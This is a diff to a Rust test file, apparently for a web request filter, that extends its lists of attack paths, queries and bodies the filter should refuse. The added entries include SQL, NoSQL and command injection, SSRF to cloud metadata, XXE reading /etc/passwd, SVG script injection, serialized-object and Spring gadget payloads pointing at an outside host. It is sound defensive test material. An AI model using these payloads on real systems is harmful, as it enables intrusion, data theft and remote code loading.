@@ -53,7 +53,7 @@ fn there_are_enough_of_them_of_each_kind() {
 }
 
 /// Attacks on the path and the query: level, target.
-const TARGETS: [(usize, &str); 43] = [
+const TARGETS: [(usize, &str); 58] = [
     (1, "/item/1'%20OR%20'1'='1"),
     (1, "/item/1%20UNION%20SELECT%20password%20FROM%20users"),
     (1, "/static/../../../../etc/passwd"),
@@ -96,6 +96,21 @@ const TARGETS: [(usize, &str); 43] = [
     (1, "/?constructor[prototype][isAdmin]=1"),
     (1, "/?constructor.prototype.isAdmin=1"),
     (1, "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
+    (1, "/a;id/b"),
+    (1, "/x/;cat%20/etc/passwd/y"),
+    (1, "/users/1'%20or%20'1'='1/x"),
+    (1, "/list?sort=if(1=1,id,name)"),
+    (1, "/list?sort=id,(select%20sleep(1))"),
+    (1, "/fetch/http://169.254.169.254/"),
+    (1, "/fetch/http:%2F%2F169.254.169.254%2Flatest"),
+    (1, "/x/rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA/y"),
+    (1, "/x/__proto__/y"),
+    (1, "/?__pro__proto__to__[a]=1"),
+    (1, "/?user[$mod][0]=1"),
+    (1, "/?user[$options]=i"),
+    (1, "/?user[$near]=1"),
+    (1, "/?user[$comment]=1"),
+    (1, "/?$set[role]=admin"),
     (2, "/?$own=1"),
 ];
 
@@ -176,7 +191,7 @@ fn an_attack_in_a_header_is_refused_at_its_level() {
 }
 
 /// Attacks that only a body has: level, media type, body.
-const BODIES: [(usize, &str, &[u8]); 34] = [
+const BODIES: [(usize, &str, &[u8]); 55] = [
     (1, "application/json", b"{\"user\":{\"$ne\":null},\"password\":{\"$ne\":null}}"),
     (1, "application/json", b"{\"user\":\"a\",\"password\":{\"$gt\":\"\"}}"),
     (1, "application/json", b"{\"$where\":\"sleep(1000)\"}"),
@@ -220,8 +235,67 @@ const BODIES: [(usize, &str, &[u8]); 34] = [
         "multipart/form-data; boundary=b",
         b"more\r\n--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--b--\r\n",
     ),
+    (
+        1,
+        "multipart/form-data; boundary=b",
+        b"\r\n--c\r\nContent-Disposition: form-data; name=\"z\"\r\n\r\n1\r\n--b\r\nContent-Disposition: \
+          form-data; name=\"a\"\r\n\r\n1\r\n--b--\r\n",
+    ),
+    (
+        1,
+        "multipart/form-data; boundary=b",
+        b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--b--\r\n\r\n--b\r\nContent-Disposition: \
+          form-data; name=\"z\"\r\n\r\n1\r\n--b--\r\n",
+    ),
+    (1, "text/plain", b"\xff\xfe{\0\"\0a\0\"\0:\0\"\0'\0o\0r\0\"\0}\0"),
+    (1, "application/octet-stream", b"\0{\0\"\0a\0\"\0:\01\0}"),
+    (1, "text/plain", b"<\0\0\0!\0\0\0D\0\0\0O\0\0\0"),
     (1, "application/graphql", b"{ user(id: \"1' OR '1'='1\") { name } }"),
     (1, "text/csv", b"a,b\n=cmd|' /C calc'!A0,1\n"),
+    (1, "application/json", b"{\"a\":\"{\\\"user\\\":{\\\"$ne\\\":null}}\"}"),
+    (
+        1,
+        "application/json",
+        b"[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://203.0.113.5/x.xml\"]",
+    ),
+    (1, "application/json", b"{\"py/object\":\"os.system\"}"),
+    (1, "application/json", b"{\"url\":\"http://localhost:8080/admin\"}"),
+    (1, "application/json", b"{\"http\":{\"url\":\"http://127.0.0.1/\"}}"),
+    (1, "application/json", b"{\"request\":{\"url\":\"http://localhost:3000/x\"}}"),
+    (1, "text/plain", b"hello\nworld;cat /etc/passwd"),
+    (1, "application/xml", b"<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><void/></java>"),
+    (1, "application/octet-stream", b"\xff\xfe<\0!\0D\0O\0C\0T\0Y\0P\0E\0 \0a\0"),
+    (
+        1,
+        "multipart/form-data; boundary=b",
+        b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.xml\"\r\nContent-Type: text/xml\r\n\r\n<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>\r\n--b--\r\n",
+    ),
+    (
+        1,
+        "multipart/form-data; boundary=b",
+        b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\r\n--b--\r\n",
+    ),
+    (
+        1,
+        "multipart/form-data; boundary=b",
+        b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<?xml version=\"1.0\"?>\n<svg onload=\"alert(1)\"/>\r\n--b--\r\n",
+    ),
+    (
+        1,
+        "multipart/form-data; boundary=b",
+        b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\n\r\nrO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA\r\n--b--\r\n",
+    ),
+    (
+        1,
+        "multipart/form-data; boundary=b",
+        b"--b\r\nContent-Disposition: form-data; name=\"f\"\r\nContent-Transfer-Encoding: base64\r\n\r\nMScgT1IgJzEnPScx\r\n--b--\r\n",
+    ),
+    (
+        1,
+        "multipart/form-data; boundary=b",
+        b"--b\r\nContent-Disposition: form-data; name=\"f\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\nx\r\n--b--\r\n",
+    ),
+    (2, "application/json", b"{\"properties\":{\"$set\":{\"plan\":\"free\"}}}"),
     (2, "application/json", b"{\"a\":{\"$custom\":1}}"),
 ];
 
